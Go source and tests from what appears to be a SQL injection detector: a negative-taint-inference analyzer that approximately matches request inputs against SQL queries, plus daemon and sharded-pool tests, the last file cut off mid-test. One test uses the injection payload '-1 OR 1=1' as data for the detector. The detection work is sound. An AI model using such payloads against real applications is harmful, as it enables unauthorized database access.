func MustNew(opts ...Option) *Analyzer {
	a, err := New(opts...)
	if err != nil {
		panic(err)
	}
	return a
}

// Threshold returns the configured difference-ratio threshold.
func (a *Analyzer) Threshold() float64 { return a.threshold }

// Analyze infers negative taint markings for query given the captured
// inputs and decides whether the query is an attack. toks must be the lex
// of query (callers typically already have it from the PTI daemon; pass
// nil to lex here).
func (a *Analyzer) Analyze(query string, toks []sqltoken.Token, inputs []Input) core.Result {
	return a.AnalyzeTraced(query, toks, inputs, nil)
}

// AnalyzeTraced is Analyze with decision tracing: when span is non-nil it
// records per-input match durations and the matched span offsets behind
// every marking, plus the lazy-lex time if lexing happened here. A nil
// span adds one pointer check per input and nothing else.
func (a *Analyzer) AnalyzeTraced(query string, toks []sqltoken.Token, inputs []Input, span *trace.Span) core.Result {
	res, _ := a.AnalyzeCtx(context.Background(), query, toks, inputs, span)
	return res
}

// AnalyzeCtx is AnalyzeTraced with cooperative cancellation: ctx is
// checked between input groups and polled inside the matcher, so a
// canceled or expired context aborts a long multi-input analysis
// mid-match with ctx's error. With context.Background() the checks are
// free and the function never fails.
func (a *Analyzer) AnalyzeCtx(ctx context.Context, query string, toks []sqltoken.Token, inputs []Input, span *trace.Span) (core.Result, error) {
	res := core.Result{Analyzer: core.AnalyzerNTI}
	if a.maxQueryBytes > 0 && len(query) > a.maxQueryBytes {
		return res, fmt.Errorf("nti: query %d bytes exceeds cap %d: %w",
			len(query), a.maxQueryBytes, core.ErrOverBudget)
	}
	cancelable := ctx.Done() != nil
	// Single-input requests (the common hot path) need no grouping state.
	var (
		single     [1]inputGroup
		singleKeys [1]string
	)
	groups := single[:0]
	if len(inputs) == 1 {
		if in := inputs[0]; in.Value != "" {
			singleKeys[0] = in.Key()
			single[0] = inputGroup{value: in.Value, keys: singleKeys[:1]}
			groups = single[:1]
		}
	} else {
		groups = dedupInputs(inputs)
	}
	st := checkState{timed: span.Active()}
	defer st.release()
	for gi := range groups {
		g := &groups[gi]
		if cancelable {
			if err := ctx.Err(); err != nil {
				return core.Result{Analyzer: core.AnalyzerNTI}, err
			}
		}
		var matchStart time.Time
		if st.timed {
			matchStart = time.Now()
		}
		st.rejected = false
		spans, err := a.matchInput(ctx, g.value, query, &st)
		if err != nil {
			return core.Result{Analyzer: core.AnalyzerNTI}, err
		}
		if st.timed {
			im := trace.InputMatch{
				Index:             gi,
				Source:            g.sourceLabel(),
				MatchNs:           int64(time.Since(matchStart)),
				Matched:           len(spans) > 0,
				PrefilterRejected: st.rejected,
			}
			if len(spans) > 0 {
				im.Start, im.End, im.Distance = spans[0].Start, spans[0].End, spans[0].Distance
			}
			span.AddInput(im)
		}
		if len(spans) == 0 {
			continue
		}
		if toks == nil {
			// Lex lazily: requests whose inputs never match the query
			// (and requests with no inputs at all) skip the lexer.
			var lexStart time.Time
			if st.timed {
				lexStart = time.Now()
			}
			toks = a.dialect.Lex(query)
			if st.timed {
				span.Lex(time.Since(lexStart))
			}
		}
		src := g.sourceLabel()
		for _, sp := range spans {
			m := core.Marking{
				Span:     sqltoken.Span{Start: sp.Start, End: sp.End},
				Source:   src,
				Distance: sp.Distance,
			}
			res.Markings = append(res.Markings, m)
			res.Reasons = append(res.Reasons, attackReasons(toks, m, a.critical)...)
		}
	}
	if st.timed && st.prefilterNs > 0 {
		span.NTIPrefilter(time.Duration(st.prefilterNs))
	}
	res.Attack = len(res.Reasons) > 0
	return res, nil
}

// inputGroup is one distinct raw value and the keys of every input that
// carried it. Keys stay discrete — a parameter name may itself contain a
// comma — and are only joined for rendering.
type inputGroup struct {
	value string
	keys  []string
}

// sourceLabel renders the group's attribution for markings and traces.
func (g *inputGroup) sourceLabel() string {
	if len(g.keys) == 1 {
		return g.keys[0]
	}
	return strings.Join(g.keys, ",")
}

// dedupInputs groups inputs by raw value, preserving first-seen order. A
// value mirrored across channels (the same payload in GET and a cookie,
// say) pays the quadratic matcher once, and its marking attributes every
// source key instead of emitting duplicate markings and duplicate attack
// reasons.
func dedupInputs(inputs []Input) []inputGroup {
	groups := make([]inputGroup, 0, len(inputs))
	index := make(map[string]int, len(inputs))
	for _, in := range inputs {
		if in.Value == "" {
			continue
		}
		key := in.Key()
		if i, ok := index[in.Value]; ok {
			if !slices.Contains(groups[i].keys, key) {
				groups[i].keys = append(groups[i].keys, key)
			}
			continue
		}
		index[in.Value] = len(groups)
		groups = append(groups, inputGroup{value: in.Value, keys: []string{key}})
	}
	return groups
}

// matchInput returns the spans of query that value matches under the
// threshold. Exact occurrences are marked as coalesced covered regions;
// otherwise the single best approximate match is considered. The fast
// path charges its probed bytes against the DP cell budget, the prefilter
// is O(n), and the matcher observes ctx and the budget itself.
func (a *Analyzer) matchInput(ctx context.Context, value, query string, st *checkState) ([]strdist.Match, error) {
	// Fast path: every exact occurrence is a zero-distance match.
	// Overlapping or adjacent occurrences coalesce into one region — a
	// 1-byte value against a repetitive query marks covered stretches, not
	// one marking per position.
	if idx := strings.Index(query, value); idx >= 0 {
		budget := a.dpCellBudget
		out := []strdist.Match{{Start: idx, End: idx + len(value)}}
		for from := idx; ; {
			nxt := strings.Index(query[from+1:], value)
			if nxt < 0 {
				break
			}
			if budget > 0 {
				if budget -= nxt + len(value); budget <= 0 {
					return nil, fmt.Errorf("nti: exact-occurrence scan against %d-byte query: %w",
						len(query), core.ErrOverBudget)
				}
			}
			from = from + 1 + nxt
			if last := &out[len(out)-1]; from <= last.End {
				last.End = from + len(value)
				continue
			}
			if len(out) >= maxExactRegions {
				break
			}
			out = append(out, strdist.Match{Start: from, End: from + len(value)})
		}
		return out, nil
	}
	if a.maxInputLen > 0 && len(value) > a.maxInputLen {
		return nil, nil
	}
	// Pruning heuristic: if even a full-length match of the whole query
	// cannot get the ratio under threshold (input much longer than query),
	// skip the quadratic matcher.
	if len(query) > 0 {
		minDist := len(value) - len(query)
		if minDist > 0 && float64(minDist)/float64(len(query)) >= a.threshold {
			return nil, nil
		}
	}
	if a.prefilter {
		a.prefilterChecks.Add(1)
		var t0 time.Time
		if st.timed {
			t0 = time.Now()
		}
		reject := a.prefilterReject(value, query, st)
		if st.timed {
			st.prefilterNs += int64(time.Since(t0))
		}
		if reject {
			a.prefilterRejects.Add(1)
			st.rejected = true
			return nil, nil
		}
	}
	a.matcherCalls.Add(1)
	m, found, pruned, err := a.match.MatchThreshold(ctx, value, query, a.threshold, a.dpCellBudget)
	if err != nil {
		if errors.Is(err, strdist.ErrBudget) {
			return nil, fmt.Errorf("nti: input match against %d-byte query: %w",
				len(query), core.ErrOverBudget)
		}
		return nil, err
	}
	if pruned {
		a.earlyExits.Add(1)
	}
	if found {
		return []strdist.Match{m}, nil
	}
	return nil, nil
}

// attackReasons returns a reason per critical token fully contained in the
// marking, provided the marking covers at least one whole SQL token.
func attackReasons(toks []sqltoken.Token, m core.Marking, critical func(sqltoken.Token) bool) []core.Reason {
	if !sqltoken.CoversWholeToken(toks, m.Span.Start, m.Span.End) {
		return nil
	}
	var out []core.Reason
	for _, t := range toks {
		if !critical(t) {
			continue
		}
		if m.Span.Contains(t.Span()) {
			out = append(out, core.Reason{
				Token: t,
				Detail: fmt.Sprintf("negatively tainted by input %s (distance %d over %d bytes)",
					m.Source, m.Distance, m.Span.Len()),
			})
		}
	}
	return out
}
