// Package nti implements negative taint inference: inferring which parts
// of a SQL query derive from untrusted application input by approximate
// string matching, per Section III-A of the Joza paper.
//
// For every captured input p and intercepted query q, NTI computes the
// substring of q with minimum edit distance to p. The difference ratio —
// distance divided by the length of the matched substring — is compared to
// a threshold (default 0.20): below the threshold, the matched span is
// marked negatively tainted. An attack is reported when a negatively
// tainted span (that covers at least one whole SQL token) fully contains a
// critical token. Markings inferred from different inputs are never
// combined, and short inputs cannot trigger an alarm unless they cover a
// whole token, both per the paper's false-positive mitigations.
package nti

import (
	"context"
	"errors"
	"fmt"
	"strings"
	"sync/atomic"
	"time"

	"joza/internal/core"
	"joza/internal/sqltoken"
	"joza/internal/strdist"
	"joza/internal/trace"
)

// DefaultThreshold is the difference-ratio threshold used when none is
// configured. The paper's running example uses 20%: a magic-quotes-inflated
// payload at 22.7% escapes matching.
const DefaultThreshold = 0.20

// Input is one captured application input value.
type Input struct {
	// Source is the input channel: "get", "post", "cookie", "header", ...
	Source string
	// Name is the parameter name within the source.
	Name string
	// Value is the raw value as received, before any application
	// transformation (Joza's preprocessing stores inputs at request entry).
	Value string
}

// Key returns the "source:name" identifier used in markings.
func (in Input) Key() string { return in.Source + ":" + in.Name }

// MatcherFunc finds the best approximate occurrence of input inside query.
// It exists so benchmarks can swap the optimized Sellers matcher for the
// naive one.
type MatcherFunc func(input, query string) strdist.Match

// Analyzer runs negative taint inference. The zero value is not usable;
// construct with New.
type Analyzer struct {
	threshold float64
	// match is a caller-supplied matcher (WithMatcher); when nil the
	// analyzer uses the threshold-aware banded Sellers matcher, which can
	// abandon hopeless comparisons early.
	match MatcherFunc
	// maxInputLen caps the input size fed to the quadratic matcher; longer
	// inputs are only checked with the exact-substring fast path. This is
	// one of the "skip implausible comparisons" optimizations: an input
	// much longer than any plausible match window cannot produce a ratio
	// under threshold unless it appears nearly verbatim.
	maxInputLen int
	// critical decides which tokens an attack may not touch; the default
	// is the paper's pragmatic policy (identifiers allowed).
	critical func(sqltoken.Token) bool
	// maxQueryBytes caps the query size AnalyzeCtx will analyze; longer
	// queries fail with core.ErrOverBudget. Zero disables the cap.
	maxQueryBytes int
	// dpCellBudget caps the DP cells one input/query pair may compute in
	// the approximate matcher; exceeding it fails the analysis with
	// core.ErrOverBudget. Zero disables the cap.
	dpCellBudget int

	matcherCalls atomic.Uint64
	earlyExits   atomic.Uint64
}

// Stats counts the analyzer's approximate-matcher activity: how often the
// quadratic matcher actually ran, and how often its threshold band
// abandoned the comparison early.
type Stats struct {
	MatcherCalls uint64
	EarlyExits   uint64
}

// Stats returns a snapshot of the matcher counters.
func (a *Analyzer) Stats() Stats {
	return Stats{
		MatcherCalls: a.matcherCalls.Load(),
		EarlyExits:   a.earlyExits.Load(),
	}
}

// Option configures an Analyzer.
type Option func(*Analyzer)

// WithThreshold sets the difference-ratio threshold.
func WithThreshold(t float64) Option {
	return func(a *Analyzer) { a.threshold = t }
}

// WithMatcher replaces the approximate matcher (benchmarks use this to
// measure the naive algorithm).
func WithMatcher(m MatcherFunc) Option {
	return func(a *Analyzer) { a.match = m }
}

// WithMaxInputLen sets the input-size cap for approximate matching; inputs
// longer than n bytes only use the exact-match fast path. Zero disables the
// cap.
func WithMaxInputLen(n int) Option {
	return func(a *Analyzer) { a.maxInputLen = n }
}

// WithMaxQueryBytes caps the query size the analyzer accepts: AnalyzeCtx
// fails a longer query with an error wrapping core.ErrOverBudget, which
// the engine resolves through its failure mode. Zero (the default)
// disables the cap. Budgets are enforced on the context-aware path only —
// the legacy error-free entry points cannot report them.
func WithMaxQueryBytes(n int) Option {
	return func(a *Analyzer) { a.maxQueryBytes = n }
}

// WithDPCellBudget caps the dynamic-programming cells the approximate
// matcher may compute for one input/query pair; a comparison that crosses
// the cap fails the analysis with an error wrapping core.ErrOverBudget.
// This bounds the worst-case O(n·m) work a hostile input can demand
// regardless of deadline. Zero (the default) disables the cap.
func WithDPCellBudget(n int) Option {
	return func(a *Analyzer) { a.dpCellBudget = n }
}

// WithStrictPolicy enforces the strict (Ray–Ligatti-style) policy of
// Section II: input-derived identifiers (field and table names) are also
// attacks. The default pragmatic policy permits them, since applications
// with advanced search legitimately pass field names through input.
func WithStrictPolicy() Option {
	return func(a *Analyzer) { a.critical = sqltoken.Token.CriticalStrict }
}

// New returns an Analyzer with the default threshold and the optimized
// threshold-aware Sellers matcher.
func New(opts ...Option) *Analyzer {
	a := &Analyzer{
		threshold:   DefaultThreshold,
		maxInputLen: 4096,
		critical:    sqltoken.Token.Critical,
	}
	for _, o := range opts {
		o(a)
	}
	return a
}

// Threshold returns the configured difference-ratio threshold.
func (a *Analyzer) Threshold() float64 { return a.threshold }

// Analyze infers negative taint markings for query given the captured
// inputs and decides whether the query is an attack. toks must be the lex
// of query (callers typically already have it from the PTI daemon; pass
// nil to lex here).
func (a *Analyzer) Analyze(query string, toks []sqltoken.Token, inputs []Input) core.Result {
	return a.AnalyzeTraced(query, toks, inputs, nil)
}

// AnalyzeTraced is Analyze with decision tracing: when span is non-nil it
// records per-input match durations and the matched span offsets behind
// every marking, plus the lazy-lex time if lexing happened here. A nil
// span adds one pointer check per input and nothing else.
func (a *Analyzer) AnalyzeTraced(query string, toks []sqltoken.Token, inputs []Input, span *trace.Span) core.Result {
	res, _ := a.AnalyzeCtx(context.Background(), query, toks, inputs, span)
	return res
}

// AnalyzeCtx is AnalyzeTraced with cooperative cancellation: ctx is
// checked between input groups and polled inside the banded Sellers
// matcher, so a canceled or expired context aborts a long multi-input
// analysis mid-match with ctx's error. With context.Background() the
// checks are free and the function never fails.
func (a *Analyzer) AnalyzeCtx(ctx context.Context, query string, toks []sqltoken.Token, inputs []Input, span *trace.Span) (core.Result, error) {
	res := core.Result{Analyzer: core.AnalyzerNTI}
	if a.maxQueryBytes > 0 && len(query) > a.maxQueryBytes {
		return res, fmt.Errorf("nti: query %d bytes exceeds cap %d: %w",
			len(query), a.maxQueryBytes, core.ErrOverBudget)
	}
	cancelable := ctx.Done() != nil
	// Single-input requests (the common hot path) need no grouping state.
	var single [1]inputGroup
	groups := single[:0]
	if len(inputs) == 1 {
		if in := inputs[0]; in.Value != "" {
			single[0] = inputGroup{value: in.Value, source: in.Key()}
			groups = single[:1]
		}
	} else {
		groups = dedupInputs(inputs)
	}
	for gi, g := range groups {
		if cancelable {
			if err := ctx.Err(); err != nil {
				return core.Result{Analyzer: core.AnalyzerNTI}, err
			}
		}
		var matchStart time.Time
		if span.Active() {
			matchStart = time.Now()
		}
		spans, err := a.matchInput(ctx, g.value, query)
		if err != nil {
			return core.Result{Analyzer: core.AnalyzerNTI}, err
		}
		if span.Active() {
			im := trace.InputMatch{
				Index:   gi,
				Source:  g.source,
				MatchNs: int64(time.Since(matchStart)),
				Matched: len(spans) > 0,
			}
			if len(spans) > 0 {
				im.Start, im.End, im.Distance = spans[0].Start, spans[0].End, spans[0].Distance
			}
			span.AddInput(im)
		}
		if len(spans) > 0 && toks == nil {
			// Lex lazily: requests whose inputs never match the query
			// (and requests with no inputs at all) skip the lexer.
			var lexStart time.Time
			if span.Active() {
				lexStart = time.Now()
			}
			toks = sqltoken.Lex(query)
			if span.Active() {
				span.Lex(time.Since(lexStart))
			}
		}
		for _, sp := range spans {
			m := core.Marking{
				Span:     sqltoken.Span{Start: sp.Start, End: sp.End},
				Source:   g.source,
				Distance: sp.Distance,
			}
			res.Markings = append(res.Markings, m)
			res.Reasons = append(res.Reasons, attackReasons(toks, m, a.critical)...)
		}
	}
	res.Attack = len(res.Reasons) > 0
	return res, nil
}

// inputGroup is one distinct raw value and the comma-joined keys of every
// input that carried it.
type inputGroup struct {
	value  string
	source string
}

// dedupInputs groups inputs by raw value, preserving first-seen order. A
// value mirrored across channels (the same payload in GET and a cookie,
// say) pays the quadratic matcher once, and its marking attributes every
// source key instead of emitting duplicate markings and duplicate attack
// reasons.
func dedupInputs(inputs []Input) []inputGroup {
	groups := make([]inputGroup, 0, len(inputs))
	index := make(map[string]int, len(inputs))
	for _, in := range inputs {
		if in.Value == "" {
			continue
		}
		key := in.Key()
		if i, ok := index[in.Value]; ok {
			if !containsKey(groups[i].source, key) {
				groups[i].source += "," + key
			}
			continue
		}
		index[in.Value] = len(groups)
		groups = append(groups, inputGroup{value: in.Value, source: key})
	}
	return groups
}

// containsKey reports whether key already appears in the comma-joined
// source list.
func containsKey(source, key string) bool {
	for source != "" {
		next := ""
		if i := strings.IndexByte(source, ','); i >= 0 {
			source, next = source[:i], source[i+1:]
		}
		if source == key {
			return true
		}
		source = next
	}
	return false
}

// matchInput returns the spans of query that input matches under the
// threshold. Exact occurrences are all marked; otherwise the single best
// approximate match is considered. ctx cancellation is observed only
// inside the quadratic matcher (the fast paths are O(n)).
func (a *Analyzer) matchInput(ctx context.Context, value, query string) ([]strdist.Match, error) {
	// Fast path: every exact occurrence is a zero-distance match.
	if idx := strings.Index(query, value); idx >= 0 {
		var out []strdist.Match
		for from := idx; ; {
			out = append(out, strdist.Match{Start: from, End: from + len(value)})
			nxt := strings.Index(query[from+1:], value)
			if nxt < 0 {
				break
			}
			from = from + 1 + nxt
		}
		return out, nil
	}
	if a.maxInputLen > 0 && len(value) > a.maxInputLen {
		return nil, nil
	}
	// Pruning heuristic: if even a full-length match of the whole query
	// cannot get the ratio under threshold (input much longer than query),
	// skip the quadratic matcher.
	if len(query) > 0 {
		minDist := len(value) - len(query)
		if minDist > 0 && float64(minDist)/float64(len(query)) >= a.threshold {
			return nil, nil
		}
	}
	a.matcherCalls.Add(1)
	if a.match != nil {
		// Caller-supplied matcher (ablation baselines): no early exit and
		// no cancellation checkpoint.
		m := a.match(value, query)
		if m.Ratio() < a.threshold {
			return []strdist.Match{m}, nil
		}
		return nil, nil
	}
	m, found, pruned, err := strdist.SubstringMatchThresholdBudgetCtx(ctx, value, query, a.threshold, a.dpCellBudget)
	if err != nil {
		if errors.Is(err, strdist.ErrBudget) {
			return nil, fmt.Errorf("nti: input match against %d-byte query: %w",
				len(query), core.ErrOverBudget)
		}
		return nil, err
	}
	if pruned {
		a.earlyExits.Add(1)
	}
	if found {
		return []strdist.Match{m}, nil
	}
	return nil, nil
}

// attackReasons returns a reason per critical token fully contained in the
// marking, provided the marking covers at least one whole SQL token.
func attackReasons(toks []sqltoken.Token, m core.Marking, critical func(sqltoken.Token) bool) []core.Reason {
	if !sqltoken.CoversWholeToken(toks, m.Span.Start, m.Span.End) {
		return nil
	}
	var out []core.Reason
	for _, t := range toks {
		if !critical(t) {
			continue
		}
		if m.Span.Contains(t.Span()) {
			out = append(out, core.Reason{
				Token: t,
				Detail: fmt.Sprintf("negatively tainted by input %s (distance %d over %d bytes)",
					m.Source, m.Distance, m.Span.Len()),
			})
		}
	}
	return out
}
