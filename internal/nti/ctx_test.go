package nti

import (
	"context"
	"errors"
	"strings"
	"testing"
)

func TestAnalyzeCtxCanceled(t *testing.T) {
	a := MustNew()
	q := "SELECT * FROM data WHERE ID=" + strings.Repeat("x", 300)
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	_, err := a.AnalyzeCtx(ctx, q, nil, inputs("id", "payload"), nil)
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("err = %v, want context.Canceled", err)
	}
}

func TestAnalyzeCtxBackgroundMatchesAnalyze(t *testing.T) {
	a := MustNew()
	payload := "-1 OR 1=1"
	q := "SELECT * FROM data WHERE ID=" + payload
	want := a.Analyze(q, nil, inputs("id", payload))
	got, err := a.AnalyzeCtx(context.Background(), q, nil, inputs("id", payload), nil)
	if err != nil {
		t.Fatal(err)
	}
	if got.Attack != want.Attack || len(got.Reasons) != len(want.Reasons) {
		t.Errorf("ctx result = %+v, plain = %+v", got, want)
	}
}
