package daemon

import (
	"net"
	"testing"

	"joza/internal/fragments"
	"joza/internal/pti"
)

func TestSetAnalyzerHotSwap(t *testing.T) {
	oldSet := fragments.NewSet([]string{"SELECT a FROM t WHERE id="})
	srv := NewServer(pti.NewCached(pti.New(oldSet), pti.CacheNone, 1))
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	done := make(chan struct{})
	go func() {
		defer close(done)
		_ = srv.Serve(ln)
	}()
	t.Cleanup(func() {
		_ = srv.Close()
		<-done
	})

	c, err := Dial(ln.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()

	// A query from a newly installed plugin is initially untrusted.
	newPluginQuery := "SELECT b FROM u WHERE id=5"
	reply, err := c.Analyze(newPluginQuery)
	if err != nil {
		t.Fatal(err)
	}
	if !reply.Attack {
		t.Fatal("unknown query should be flagged before reload")
	}

	// The installer picked up the plugin; the analyzer is swapped.
	newSet := fragments.NewSet([]string{
		"SELECT a FROM t WHERE id=",
		"SELECT b FROM u WHERE id=",
	})
	srv.SetAnalyzer(pti.NewCached(pti.New(newSet), pti.CacheNone, 1))

	reply, err = c.Analyze(newPluginQuery)
	if err != nil {
		t.Fatal(err)
	}
	if reply.Attack {
		t.Error("query should be trusted after fragment reload")
	}
	// The original application's queries keep working.
	reply, err = c.Analyze("SELECT a FROM t WHERE id=1")
	if err != nil {
		t.Fatal(err)
	}
	if reply.Attack {
		t.Error("original query flagged after reload")
	}
}

func TestServerRejectsGarbageBytes(t *testing.T) {
	srv := NewServer(newAnalyzer())
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	done := make(chan struct{})
	go func() {
		defer close(done)
		_ = srv.Serve(ln)
	}()
	t.Cleanup(func() {
		_ = srv.Close()
		<-done
	})

	// A client that speaks garbage gets dropped without wedging the
	// server; a well-behaved client afterwards works.
	raw, err := net.Dial("tcp", ln.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	if _, err := raw.Write([]byte("\x00\xffnot json at all\n{{{{")); err != nil {
		t.Fatal(err)
	}
	buf := make([]byte, 16)
	_, _ = raw.Read(buf) // server closes; read unblocks
	_ = raw.Close()

	c, err := Dial(ln.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	if _, err := c.Analyze(benignQuery); err != nil {
		t.Fatalf("server wedged after garbage client: %v", err)
	}
}
