package daemon

import (
	"context"
	"errors"
	"fmt"
	"net"
	"strings"
	"testing"
	"time"

	"joza/internal/core"
	"joza/internal/nti"
	"joza/internal/trace"
)

// startShardServer boots one daemon shard over TCP and returns its
// address, the server (for stats), and a kill function that takes the
// shard down hard.
func startShardServer(t *testing.T, opts ...ServerOption) (string, *Server, func()) {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	srv := NewServer(newAnalyzer(), opts...)
	done := make(chan struct{})
	go func() {
		defer close(done)
		_ = srv.Serve(ln)
	}()
	var once bool
	kill := func() {
		if once {
			return
		}
		once = true
		_ = srv.Close()
		<-done
	}
	t.Cleanup(kill)
	return ln.Addr().String(), srv, kill
}

// fastShardConfig keeps dead-shard probes cheap in tests.
func fastShardConfig() PoolConfig {
	return PoolConfig{
		Size:        2,
		Timeout:     5 * time.Second,
		DialTimeout: 500 * time.Millisecond,
		MaxAttempts: 2,
		BackoffMin:  time.Millisecond,
		BackoffMax:  5 * time.Millisecond,
	}
}

// queriesForShards returns one query routed to each shard of sp, derived
// from the benign template so every shard's analyzer accepts it.
func queriesForShards(t *testing.T, sp *ShardedPool) []string {
	t.Helper()
	out := make([]string, sp.Shards())
	found := 0
	for i := 0; found < sp.Shards() && i < 100000; i++ {
		q := fmt.Sprintf("SELECT * FROM records WHERE ID=%d LIMIT 5", i)
		if s := sp.Owner(q); out[s] == "" {
			out[s] = q
			found++
		}
	}
	if found != sp.Shards() {
		t.Fatalf("could not find a query per shard (%d of %d)", found, sp.Shards())
	}
	return out
}

func TestShardedPoolRoutesAndAnalyzes(t *testing.T) {
	addr0, srv0, _ := startShardServer(t)
	addr1, srv1, _ := startShardServer(t)
	sp, err := DialShardedPool([]string{addr0, addr1}, fastShardConfig())
	if err != nil {
		t.Fatal(err)
	}
	defer sp.Close()

	perShard := queriesForShards(t, sp)
	for s, q := range perShard {
		reply, err := sp.Analyze(q)
		if err != nil {
			t.Fatalf("shard %d query: %v", s, err)
		}
		if reply.Attack {
			t.Errorf("shard %d flagged benign query", s)
		}
	}
	reply, err := sp.AnalyzeContext(context.Background(), attackQuery)
	if err != nil {
		t.Fatal(err)
	}
	if !reply.Attack {
		t.Error("attack missed through the sharded pool")
	}
	// Each shard served exactly the keys it owns: both shards saw
	// traffic, and the totals add up.
	st0, st1 := srv0.Stats(), srv1.Stats()
	if st0.DaemonAnalyzeOps == 0 || st1.DaemonAnalyzeOps == 0 {
		t.Fatalf("analyze ops per shard = %d, %d; routing sent everything one way",
			st0.DaemonAnalyzeOps, st1.DaemonAnalyzeOps)
	}
	if total := st0.DaemonAnalyzeOps + st1.DaemonAnalyzeOps; total != 3 {
		t.Fatalf("fleet served %d analyzes, want 3", total)
	}
}

func TestShardedPoolAnalyzeKeyContext(t *testing.T) {
	addr0, srv0, _ := startShardServer(t)
	addr1, srv1, _ := startShardServer(t)
	sp, err := DialShardedPool([]string{addr0, addr1}, fastShardConfig())
	if err != nil {
		t.Fatal(err)
	}
	defer sp.Close()
	// Explicit keys pin all checks to one shard regardless of query text
	// — the per-application routing fragment-sliced fleets need.
	var key string
	for i := 0; ; i++ {
		key = fmt.Sprintf("app-%d", i)
		if sp.Owner(key) == 0 {
			break
		}
	}
	for i := 0; i < 5; i++ {
		if _, err := sp.AnalyzeKeyContext(context.Background(), key, benignQuery); err != nil {
			t.Fatal(err)
		}
	}
	if ops := srv0.Stats().DaemonAnalyzeOps; ops != 5 {
		t.Errorf("owner shard served %d, want 5", ops)
	}
	if ops := srv1.Stats().DaemonAnalyzeOps; ops != 0 {
		t.Errorf("other shard served %d, want 0", ops)
	}
}

func TestShardedPoolBatchPreservesOrder(t *testing.T) {
	addr0, _, _ := startShardServer(t)
	addr1, _, _ := startShardServer(t)
	sp, err := DialShardedPool([]string{addr0, addr1}, fastShardConfig())
	if err != nil {
		t.Fatal(err)
	}
	defer sp.Close()
	// Interleave shard-0 and shard-1 keys with an attack in the middle;
	// results must come back in input order despite per-shard regrouping.
	perShard := queriesForShards(t, sp)
	queries := []string{perShard[0], perShard[1], attackQuery, perShard[1], perShard[0]}
	results, err := sp.AnalyzeBatch(context.Background(), queries)
	if err != nil {
		t.Fatal(err)
	}
	if len(results) != len(queries) {
		t.Fatalf("%d results for %d queries", len(results), len(queries))
	}
	for i, r := range results {
		if r.Err != nil {
			t.Fatalf("item %d: %v", i, r.Err)
		}
		if want := i == 2; r.Reply.Attack != want {
			t.Fatalf("item %d attack=%v, want %v — reassembly scrambled order", i, r.Reply.Attack, want)
		}
	}
}

// TestShardedPoolDeadShardDegradesOnlyItsKeyspace is the sharded
// fault-containment property: killing one daemon fails checks routed to
// it while its siblings' keyspaces keep working — for single checks and
// for batch items alike.
func TestShardedPoolDeadShardDegradesOnlyItsKeyspace(t *testing.T) {
	addr0, _, kill0 := startShardServer(t)
	addr1, _, _ := startShardServer(t)
	sp, err := DialShardedPool([]string{addr0, addr1}, fastShardConfig())
	if err != nil {
		t.Fatal(err)
	}
	defer sp.Close()
	perShard := queriesForShards(t, sp)

	kill0()

	// Single checks: the dead shard's keyspace errors as unavailable, the
	// survivor's keyspace is untouched.
	if _, err := sp.Analyze(perShard[0]); !errors.Is(err, ErrUnavailable) {
		t.Fatalf("dead-shard check = %v, want ErrUnavailable", err)
	}
	if !strings.Contains(fmt.Sprint(sp.Analyze(perShard[0])), addr0) {
		t.Error("dead-shard error does not name the shard")
	}
	reply, err := sp.Analyze(perShard[1])
	if err != nil {
		t.Fatalf("surviving shard's keyspace failed: %v", err)
	}
	if reply.Attack {
		t.Error("benign flagged")
	}

	// Batch spanning both shards: dead shard's items fail individually,
	// survivors reply.
	queries := []string{perShard[1], perShard[0], perShard[1]}
	results, err := sp.AnalyzeBatch(context.Background(), queries)
	if err != nil {
		t.Fatal(err)
	}
	if results[0].Err != nil || results[2].Err != nil {
		t.Fatalf("surviving items failed: %+v", results)
	}
	if results[1].Err == nil || !errors.Is(results[1].Err, ErrUnavailable) {
		t.Fatalf("dead-shard item = %+v, want ErrUnavailable", results[1])
	}
}

// TestShardedPoolBreakerPerShard: consecutive failures against one dead
// shard trip only that shard's breaker; the survivor's stays closed and
// serving.
func TestShardedPoolBreakerPerShard(t *testing.T) {
	addr0, _, kill0 := startShardServer(t)
	addr1, _, _ := startShardServer(t)
	cfg := fastShardConfig()
	cfg.BreakerThreshold = 2
	cfg.BreakerCooldown = time.Minute
	sp, err := DialShardedPool([]string{addr0, addr1}, cfg)
	if err != nil {
		t.Fatal(err)
	}
	defer sp.Close()
	perShard := queriesForShards(t, sp)
	kill0()
	for i := 0; i < 4; i++ {
		_, _ = sp.Analyze(perShard[0])
	}
	health := sp.ShardStats()
	if len(health) != 2 {
		t.Fatalf("%d shard healths, want 2", len(health))
	}
	if health[0].BreakerState != "open" {
		t.Errorf("dead shard breaker %q, want open", health[0].BreakerState)
	}
	if health[0].BreakerTrips == 0 {
		t.Error("dead shard breaker never tripped")
	}
	if health[1].BreakerState != "closed" {
		t.Errorf("healthy shard breaker %q, want closed", health[1].BreakerState)
	}
	if _, err := sp.Analyze(perShard[1]); err != nil {
		t.Fatalf("healthy shard dragged down: %v", err)
	}
}

func TestShardedPoolStatsMerge(t *testing.T) {
	addr0, _, kill0 := startShardServer(t)
	addr1, _, _ := startShardServer(t)
	sp, err := DialShardedPool([]string{addr0, addr1}, fastShardConfig())
	if err != nil {
		t.Fatal(err)
	}
	defer sp.Close()
	perShard := queriesForShards(t, sp)
	for i := 0; i < 3; i++ {
		if _, err := sp.Analyze(perShard[0]); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := sp.Analyze(perShard[1]); err != nil {
		t.Fatal(err)
	}
	st, err := sp.Stats()
	if err != nil {
		t.Fatal(err)
	}
	if st.Checks != 4 {
		t.Errorf("merged checks = %d, want 4", st.Checks)
	}
	if st.DaemonAnalyzeOps != 4 {
		t.Errorf("merged analyze ops = %d, want 4", st.DaemonAnalyzeOps)
	}
	if st.LatencyCount != 4 || st.LatencyP99Ns <= 0 {
		t.Errorf("merged latency count=%d p99=%d; histogram merge broken", st.LatencyCount, st.LatencyP99Ns)
	}
	if len(st.Shards) != 2 || st.Shards[0].Shard != addr0 || st.Shards[1].Shard != addr1 {
		t.Fatalf("merged shard health = %+v", st.Shards)
	}

